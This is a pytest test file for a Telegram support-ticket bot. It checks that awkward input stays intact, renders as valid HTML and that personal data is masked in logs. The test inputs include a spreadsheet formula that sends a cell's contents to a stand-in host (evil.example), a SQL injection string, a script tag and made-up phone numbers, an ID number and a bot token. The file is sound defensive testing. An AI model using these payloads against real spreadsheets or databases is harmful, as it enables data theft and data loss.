"""What people paste: through inbox, collector, store and rows, and back to them in valid HTML."""
import json
from datetime import datetime, timezone
from html.parser import HTMLParser

import pytest
import sqlalchemy as sa
from group import AYU, BUDI, Group, post, settings

from mytech.bots.collector import Desk, finish, take
from mytech.bots.inbox import Batch, handle_pending, store_updates
from mytech.core.parsing import valid
from mytech.core.privacy import MaskingFilter
from mytech.core.rows import logs_row
from mytech.core.schema import Prediction, Status
from mytech.services.store import open_store, updates

NOW = datetime(2026, 11, 20, 2, 30, tzinfo=timezone.utc)
TEXTS = {
    'long': ('tdk bisa login mytech ' * 200)[:4096], 'one word': 'a' * 4096, 'emoji': '\U0001f469\u200d\U0001f527' * 1000,
    'high surrogate': 'gagal login \ud83d', 'low surrogate': '\ude00 gagal login', 'swapped': '\ude00\ud83d gagal login',
    'rtl': 'لا أستطيع تسجيل الدخول', 'override': '\u202egagal login\u202c', 'zero width': 'ga\u200bgal lo\u200dgin\ufeff',
    'combining': 'gagal ' + 'e\u0301\u0323' * 500, 'nul': 'gagal\0login', 'control': 'gagal \x01\x07\x1b[31mlogin',
    'formula': '=HYPERLINK("http://evil.example?x="&A1,"klik")', 'formula+': '+62 error', 'formula-': '-1+1 error',
    'formula@': '@SUM(A1:A9) error', 'tab formula': '\t=1+1 error', 'html': '<b>gagal</b> <a href="x">login</a> & <script>',
    'entities': '&lt;b&gt; &#60; &nbsp; gagal', 'braces': 'gagal {label} {0} %s %(x)s {', 'quotes': '\'"; DROP TABLE tickets; --',
    'json': '{"update_id": 1, "message": null}', 'lines': 'gagal\r\nlogin\n\n\nmin', 'spaces': '  gagal\u00a0login\u3000 '}


class TelegramHtml(HTMLParser):
    "Telegram's HTML: a few tags, all closed."
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.open, self.text = [], ''

    def handle_starttag(self, tag, attributes):
        assert tag in ('b', 'i', 'code', 'pre') and not attributes
        self.open.append(tag)

    def handle_endtag(self, tag): assert self.open.pop() == tag
    def handle_data(self, data): self.text += data


def shown(html: str) -> str:
    "What a person sees of it. Fails on HTML that Telegram would refuse."
    reader = TelegramHtml()
    reader.feed(html)
    reader.close()
    assert reader.open == [] and 0 < len(reader.text) <= 4096
    return reader.text


@pytest.fixture
def group():
    group = Group(open_store('sqlite://'))
    yield group
    group.store.close()


def receive(group, *messages) -> list[str]:
    "The messages as JSON through the inbox; why some were set aside."
    batch = [json.loads(json.dumps({'update_id': n, 'message': message})) for n, message in enumerate(messages)]

    def open_batch(connection):
        desk = Desk(group.settings, group.predict, 7, 'mytech_bot', connection, NOW)
        return Batch(lambda update: take(desk, update), lambda: finish(desk))
    with group.store.write() as connection: store_updates(connection, 7, batch, NOW)
    handle_pending(group.store, 7, open_batch)
    with group.store.read() as connection:
        return list(connection.scalars(sa.select(updates.c.error).where(updates.c.error != '')))


@pytest.mark.parametrize('text', TEXTS.values(), ids=TEXTS)
def test_a_technicians_text_arrives_as_it_was_written(group, text):
    question = post(10, BUDI, text)
    assert receive(group, question, post(11, AYU, 'done, MIT -ab', 5, reply_to=question)) == []
    ticket, = group.logs()
    assert ticket.tech_text == valid(text) and ticket.solving == 'done'
    row = logs_row(ticket, group.settings.timezone)
    assert row['tech_raw_text'] == valid(text)
    json.dumps(row, ensure_ascii=False).encode('utf-8')
    assert 'Tercatat' in shown(group.said()[0]['text'])


@pytest.mark.parametrize('text', TEXTS.values(), ids=TEXTS)
def test_a_solution_of_any_text(group, text):
    question, signature = post(10, BUDI, 'gagal login'), ', MIT -ab'
    assert receive(group, question, post(11, AYU, text[:4096 - len(signature)] + signature, 5, reply_to=question)) == []
    ticket, = group.logs()
    assert ticket.solving and ticket.solver_name == 'Ayu B'
    ticket.solving.encode('utf-8')
    shown(group.said()[0]['text'])


@pytest.mark.parametrize('text', TEXTS.values(), ids=TEXTS)
def test_titles_names_and_captions_of_any_text(group, text):
    question = post(10, BUDI, text[:1024], photo=[{'file_id': 'x'}])
    question['chat']['title'] = question['from']['first_name'] = text[:128]
    assert receive(group, question, {**post(11, AYU, 'oncek', 5, reply_to=question), 'chat': question['chat']}) == []
    ticket, = group.logs()
    assert (ticket.group_label, ticket.tech_text) == (valid(text[:128]), valid(text[:1024]))


@pytest.mark.parametrize('label', ['<b>KENDALA</b> & <i>', '{label}', '&lt;', 'A' * 300])
@pytest.mark.parametrize('status', [Status.AUTO, Status.REVIEW])
def test_a_label_is_shown_as_it_is(group, label, status):
    group.predict = lambda texts, solvings: [Prediction(label, .9, status) for _ in texts]
    question = post(10, BUDI, 'gagal login')
    assert receive(group, question, post(11, AYU, 'done, MIT -ab', 5, reply_to=question)) == []
    assert label in shown(group.said()[0]['text'])


@pytest.mark.parametrize('language', ['id', 'en'])
def test_settings_with_html_in_them(group, language):
    group.settings = settings(app_codes='M<b>:MyTech', solvers='<i>:Ayu <b>,b&b:Budi', bot_language=language)
    question = post(10, BUDI, 'gagal login')
    assert receive(group, question, post(11, AYU, 'done, M<b> -zz', 5, reply_to=question), post(12, BUDI, '/help@mytech_bot')) == []
    first, second = (shown(payload['text']) for payload in group.said())
    assert 'M<b>' in first and '<i>, b&b' in first and 'M<b> -<i>' in second


def test_many_solvers_fit_into_a_message(group):
    group.settings = settings(solvers=','.join(f's{n:03}:Solver {n}' for n in range(900)))
    question = post(10, BUDI, 'gagal login')
    assert receive(group, question, post(11, AYU, 'done, MIT -zz', 5, reply_to=question)) == []
    assert 's000' in shown(group.said()[0]['text'])


PLANTED = {'0812-3456-7890': '3456-7890', '+62 813 9999 0000': '9999 0000', 'budi.s@contoh.co.id': 'contoh.co.id',
           'NIK 3174012345678901': '3174012345678901', '123456789:AAHfx8kQ2pLm0NzRhunter2': 'hunter2'}


@pytest.mark.parametrize('broken', [None, RuntimeError(f'cannot read {" ".join(PLANTED)}')])
def test_nothing_personal_is_in_the_logs_of_a_ticket(group, caplog, monkeypatch, broken):
    monkeypatch.setattr(caplog.handler, 'filters', [MaskingFilter()])
    caplog.set_level('DEBUG')
    group.broken = broken
    question = post(10, BUDI, 'gagal login, hub ' + ' '.join(PLANTED))
    errors = receive(group, question, post(11, AYU, f'sudah hub {" ".join(PLANTED)}, MIT -ab', 5, reply_to=question),
                     {**question, 'date': ' '.join(PLANTED)})
    assert 'set aside' in caplog.text and len(errors) == 1 and len(group.logs()) == 1
    for secret in PLANTED.values(): assert secret not in caplog.text + errors[0] + json.dumps(group.said())
